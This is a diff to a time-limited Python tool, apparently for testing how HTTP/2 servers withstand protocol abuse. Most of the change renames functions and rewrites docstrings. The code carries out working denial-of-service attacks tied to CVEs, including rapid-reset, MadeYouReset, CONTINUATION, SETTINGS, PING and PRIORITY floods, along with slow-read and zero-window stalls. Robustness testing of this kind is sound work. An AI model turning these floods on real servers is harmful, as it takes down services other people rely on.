@@ -1,7 +1,7 @@
 #!/usr/bin/python3
 """
-What a well-behaved client of HTTP/2 never does, bounded in time: `hostile.py ATTACK HOST PORT`. Prints one line of JSON
-with what came back. Needs Debian's python3-h2.
+Runs an attack on an HTTP/2 server for a limited time: `hostile.py ATTACK HOST PORT`. Prints a report of the server's
+frames as one line of JSON. Needs Debian's python3-h2.
 """
 
 import argparse
@@ -29,27 +29,27 @@ UPLOAD = {"method": "PUT", "flags": ("END_HEADERS",)}
 
 
 def reset_flood(peer, options):
-    """Requests that are taken back at once (CVE-2023-44487), with the `--code` of a reset."""
+    """Opens streams and resets them at once, with the code `--code` (CVE-2023-44487)."""
     peer.begin()
     code = ErrorCodes[options.code]
     flags = ["END_HEADERS", "END_STREAM"] if options.method == "GET" else ["END_HEADERS"]
 
-    def say():
+    def send_once():
         stream = peer.next_stream
         peer.next_stream += 2
-        peer.say(
+        peer.send(
             HeadersFrame(stream, peer.headers(options.method), flags=flags),
             RstStreamFrame(stream, code),
         )
 
-    peer.flood(say)
+    peer.flood(send_once)
 
 
 def made_you_reset(peer, options):
     """
-    Requests that the server itself has to reset (CVE-2025-8671). `--how` tells by what: a WINDOW_UPDATE of `zero`, one
-    that is an `overflow`, DATA after the end (`closed`), DATA beyond the content-length (`length`), a name that no field
-    may have (`field`), more fields than it takes (`fields`), or more streams (`refused`).
+    Sends requests that the server has to reset (CVE-2025-8671). `--how` is the reason: `zero` (WINDOW_UPDATE of 0),
+    `overflow` (window above 2^31 - 1), `closed` (DATA after END_STREAM), `length` (DATA beyond Content-Length), `field`
+    (invalid header name), `fields` (too many headers) or `refused` (too many streams).
     """
     if options.how == "refused":
         peer.begin_with_window(0)
@@ -58,7 +58,7 @@ def made_you_reset(peer, options):
         return
     peer.begin()
 
-    def say():
+    def send_once():
         stream = peer.next_stream
         peer.next_stream += 2
         more = {
@@ -68,72 +68,72 @@ def made_you_reset(peer, options):
         }.get(options.how, [])
         is_whole = options.how in ("field", "fields")
         flags = ["END_HEADERS", "END_STREAM"] if is_whole else ["END_HEADERS"]
-        peer.say(HeadersFrame(stream, peer.headers("PUT", more=more), flags=flags))
+        peer.send(HeadersFrame(stream, peer.headers("PUT", more=more), flags=flags))
         if options.how == "zero":
-            peer.say(WindowUpdateFrame(stream, 0))
+            peer.send(WindowUpdateFrame(stream, 0))
         elif options.how == "overflow":
-            peer.say(WindowUpdateFrame(stream, LARGEST_WINDOW))
+            peer.send(WindowUpdateFrame(stream, LARGEST_WINDOW))
         elif options.how == "closed":
-            peer.say(DataFrame(stream, b"x", flags=["END_STREAM"]), DataFrame(stream, b"x"))
+            peer.send(DataFrame(stream, b"x", flags=["END_STREAM"]), DataFrame(stream, b"x"))
         elif options.how == "length":
-            peer.say(DataFrame(stream, b"xx"))
+            peer.send(DataFrame(stream, b"xx"))
 
-    peer.flood(say)
+    peer.flood(send_once)
 
 
 def continuation_flood(peer, options):
-    """Headers that have no end. `--how empty`: without a byte in them (CVE-2024-27983 and its kin)."""
+    """Sends CONTINUATION frames without END_HEADERS (CVE-2024-27983). `--how empty`: frames without a payload."""
     peer.begin()
     block = b"" if options.how == "empty" else b"\x00\x01x\x40" + b"a" * 64
-    peer.say(HeadersFrame(1, peer.headers(), flags=["END_STREAM"]))
-    peer.flood(lambda: peer.say(ContinuationFrame(1, block)))
+    peer.send(HeadersFrame(1, peer.headers(), flags=["END_STREAM"]))
+    peer.flood(lambda: peer.send(ContinuationFrame(1, block)))
 
 
 def settings_flood(peer, options):
-    """SETTINGS that each want an answer. `--how change`: each gives the open streams another window."""
+    """Sends SETTINGS, each of which needs an acknowledgement. `--how change`: each changes the initial window."""
     peer.begin()
     windows = [{SettingCodes.INITIAL_WINDOW_SIZE: size} for size in (1, 65_535)]
 
-    def say():
-        peer.say(SettingsFrame(0, windows[peer.sent["Settings"] % 2] if options.how == "change" else {}))
+    def send_once():
+        peer.send(SettingsFrame(0, windows[peer.sent["Settings"] % 2] if options.how == "change" else {}))
 
-    peer.flood(say, reads=not options.no_read)
+    peer.flood(send_once, reads=not options.no_read)
 
 
 def ping_flood(peer, options):
-    """PINGs that each want an answer; `--no-read`: and nobody takes them."""
+    """Sends PINGs, each of which needs an answer. `--no-read`: the client does not read the answers."""
     peer.begin()
     ping = PingFrame(0, b"hotblob!")
-    peer.flood(lambda: peer.say(ping), reads=not options.no_read)
+    peer.flood(lambda: peer.send(ping), reads=not options.no_read)
 
 
 def window_overflow(peer, options):
-    """More window for the connection than there may be (RFC 9113, 6.9.1)."""
+    """Increases the connection window above the maximum (RFC 9113, 6.9.1)."""
     peer.begin()
-    peer.say(WindowUpdateFrame(0, LARGEST_WINDOW), WindowUpdateFrame(0, LARGEST_WINDOW))
+    peer.send(WindowUpdateFrame(0, LARGEST_WINDOW), WindowUpdateFrame(0, LARGEST_WINDOW))
     watch(peer)
 
 
 def empty_data_flood(peer, options):
-    """An upload in pieces of no bytes (CVE-2019-9518)."""
+    """Sends an upload in empty DATA frames (CVE-2019-9518)."""
     peer.begin()
     stream = peer.open(**UPLOAD)
-    peer.flood(lambda: peer.say(DataFrame(stream)))
+    peer.flood(lambda: peer.send(DataFrame(stream)))
 
 
 def priority_flood(peer, options):
-    """An order of streams that changes without end (CVE-2019-9513)."""
+    """Changes the priorities of streams without end (CVE-2019-9513)."""
     peer.begin()
 
-    def say():
+    def send_once():
         stream = 1 + 2 * (peer.sent["Priority"] % 1000)
-        peer.say(PriorityFrame(stream, depends_on=0, stream_weight=peer.sent["Priority"] % 256))
+        peer.send(PriorityFrame(stream, depends_on=0, stream_weight=peer.sent["Priority"] % 256))
 
-    peer.flood(say)
+    peer.flood(send_once)
 
 
 def slow_reader(peer, options):
-    """Downloads read at `--rate` bytes a second, each by its window, or, `--how socket`, all by their socket."""
+    """Reads each download at `--rate` bytes per second by its window. `--how socket`: reads the socket at that rate."""
     if options.how == "socket":
         peer.begin_with_window(LARGEST_WINDOW)
         open_streams(peer)
@@ -151,12 +151,12 @@ def slow_reader(peer, options):
         peer.wait(0.05)
         increment = int(peer.now() * options.rate) - granted
         granted += increment
-        for stream in [*alive(peer)] if increment > 0 else []:
+        for stream in [*open_stream_ids(peer)] if increment > 0 else []:
             peer.grant(stream, increment)
 
 
 def no_window(peer, options):
-    """Downloads of which not a byte may come. The connection itself is well: PING and SETTINGS are answered."""
+    """Opens downloads with a window of 0. The client answers PING and SETTINGS."""
     peer.begin_with_window(0)
     peer.grants_streams = False
     open_streams(peer)
@@ -164,14 +164,14 @@ def no_window(peer, options):
 
 
 def deaf(peer, options):
-    """Downloads whose client reads nothing any more after the first bytes. What came until its end is read last."""
+    """Stops reading after the first bytes of the downloads. At the end, reads what the server has sent."""
     peer.begin_with_window(LARGEST_WINDOW)
     open_streams(peer)
     while not peer.is_over and peer.bytes_read == 0:
         peer.pump(0.05, most=1)
     while not peer.is_over:
         peer.pump(0.05, reads=False)
-    # The socket's buffer hides what became of the connection.
+    # Unread bytes in the socket hide whether the server has closed the connection.
     if peer.closed_by != "reset":
         peer.answers_pings = peer.acks_settings = peer.grants_connection = peer.grants_streams = False
         options.seconds += options.listen
@@ -179,20 +179,20 @@ def deaf(peer, options):
 
 
 def half_preface(peer, options):
-    """The first `--bytes` of preface and SETTINGS, in pieces of `--piece` bytes, `--pause` seconds apart."""
-    words = (PREFACE + SettingsFrame(0).serialize())[: options.bytes]
+    """Sends the first `--bytes` bytes of preface and SETTINGS, in pieces of `--piece` bytes, `--pause` seconds apart."""
+    data = (PREFACE + SettingsFrame(0).serialize())[: options.bytes]
     peer.speaks_http2 = options.bytes >= len(PREFACE)
     peer.acks_settings = False
-    for at in range(0, len(words), options.piece):
-        peer.raw(words[at : at + options.piece])
+    for at in range(0, len(data), options.piece):
+        peer.raw(data[at : at + options.piece])
         peer.wait(options.pause)
     watch(peer)
 
 
 def goaway_watch(peer, options):
     """
-    Downloads, and what the server says about the connection's end meanwhile. Each GOAWAY is followed by one more request.
-    `--hold`: nothing of the downloads is taken before so many seconds.
+    Downloads and records the GOAWAYs of the server. Sends one more request after each GOAWAY. `--hold`: keeps the
+    windows of the downloads closed for so many seconds.
     """
     peer.answers_pings = not options.no_pong
     peer.begin_with_window(0 if options.hold > 0 else LARGEST_WINDOW)
@@ -200,12 +200,12 @@ def goaway_watch(peer, options):
     open_streams(peer)
     peer.wait(options.hold)
     if options.hold > 0:
-        peer.say(SettingsFrame(0, {SettingCodes.INITIAL_WINDOW_SIZE: LARGEST_WINDOW}))
+        peer.send(SettingsFrame(0, {SettingCodes.INITIAL_WINDOW_SIZE: LARGEST_WINDOW}))
     watch(peer)
 
 
 def settings_no_ack(peer, options):
-    """A client that never says that it has seen the server's settings."""
+    """Never acknowledges the server's SETTINGS."""
     peer.acks_settings = False
     peer.begin()
     open_streams(peer)
@@ -213,7 +213,7 @@ def settings_no_ack(peer, options):
 
 
 def too_many_streams(peer, options):
-    """More requests at the same time than the server allows; none is taken, so that none ends."""
+    """Opens more streams than the server allows, with a window of 0, so that no stream ends."""
     peer.begin_with_window(0)
     peer.grants_streams = False
     open_streams(peer)
@@ -221,21 +221,21 @@ def too_many_streams(peer, options):
 
 
 def too_many_headers(peer, options):
-    """A request with `--fields` fields of `--size` bytes each."""
+    """Sends a request with `--fields` headers of `--size` bytes each."""
     peer.begin()
     stream = peer.next_stream
     peer.next_stream += 2
     block = peer.headers(more=[(f"x-{number}", "v" * options.size) for number in range(options.fields)])
     first, *rest = [block[at : at + 16_384] for at in range(0, len(block), 16_384)]
     peer.streams[stream] = {"openedAt": peer.now(), "status": None, "bytes": 0, "endedAt": None, "reset": None}
-    peer.say(HeadersFrame(stream, first, flags=["END_STREAM"] if rest else ["END_HEADERS", "END_STREAM"]))
+    peer.send(HeadersFrame(stream, first, flags=["END_STREAM"] if rest else ["END_HEADERS", "END_STREAM"]))
     for number, piece in enumerate(rest, 1):
-        peer.say(ContinuationFrame(stream, piece, flags=["END_HEADERS"] if number == len(rest) else []))
+        peer.send(ContinuationFrame(stream, piece, flags=["END_HEADERS"] if number == len(rest) else []))
     watch(peer)
 
 
 def headers_then_silence(peer, options):
-    """Uploads that are announced, and never come. PING and SETTINGS are answered."""
+    """Sends the headers of uploads and no bodies. The client answers PING and SETTINGS."""
     peer.begin()
     for _ in range(options.streams):
         peer.open(**UPLOAD, more=[("content-length", str(options.bytes))])
@@ -247,7 +247,7 @@ def open_streams(peer):
         peer.open()
 
 
-def alive(peer):
+def open_stream_ids(peer):
     return (number for number, stream in peer.streams.items() if stream["endedAt"] is None and stream["reset"] is None)
 
 
@@ -286,26 +286,26 @@ def arguments():
     parser.add_argument("host")
     parser.add_argument("port", type=int)
     parser.add_argument("--tls", action="store_true")
-    parser.add_argument("--seconds", type=float, default=5, help="when it ends, unless the server ends it before")
+    parser.add_argument("--seconds", type=float, default=5, help="time limit of the attack")
     parser.add_argument("--path", default="/")
-    parser.add_argument("--how", default="", help="the variant: see each attack")
+    parser.add_argument("--how", default="", help="variant of the attack")
     parser.add_argument("--code", choices=[code.name for code in ErrorCodes], default="CANCEL")
-    parser.add_argument("--method", default="GET", help="of the requests of a reset flood; all but GET announce a body")
+    parser.add_argument("--method", default="GET", help="method of a reset flood; all but GET announce a body")
     parser.add_argument("--streams", type=int, default=1)
-    parser.add_argument("--count", type=int, help="how often a flood repeats itself at most")
-    parser.add_argument("--rate", type=float, help="how often a second; bytes a second of a slow reader")
-    parser.add_argument("--window", type=int, default=1, help="what a slow reader grants each stream at first")
-    parser.add_argument("--receive-buffer", type=int, help="the kernel's, in bytes")
+    parser.add_argument("--count", type=int, help="maximum number of repetitions of a flood")
+    parser.add_argument("--rate", type=float, help="repetitions per second; bytes per second of slow-reader")
+    parser.add_argument("--window", type=int, default=1, help="initial stream window of slow-reader")
+    parser.add_argument("--receive-buffer", type=int, help="SO_RCVBUF, in bytes")
     parser.add_argument("--no-read", action="store_true")
     parser.add_argument("--no-pong", action="store_true")
     parser.add_argument("--hold", type=float, default=0)
-    parser.add_argument("--listen", type=float, default=2, help="how long the deaf one hears at last, in seconds")
+    parser.add_argument("--listen", type=float, default=2, help="seconds that deaf reads at the end")
     parser.add_argument("--bytes", type=int, default=12)
     parser.add_argument("--piece", type=int, default=1)
     parser.add_argument("--pause", type=float, default=0.05)
     parser.add_argument("--fields", type=int, default=200)
     parser.add_argument("--size", type=int, default=8)
-    parser.add_argument("--most-streams", type=int, default=200, help="how many streams the report tells of")
+    parser.add_argument("--most-streams", type=int, default=200, help="maximum number of streams in the report")
     return parser.parse_args()
 
 
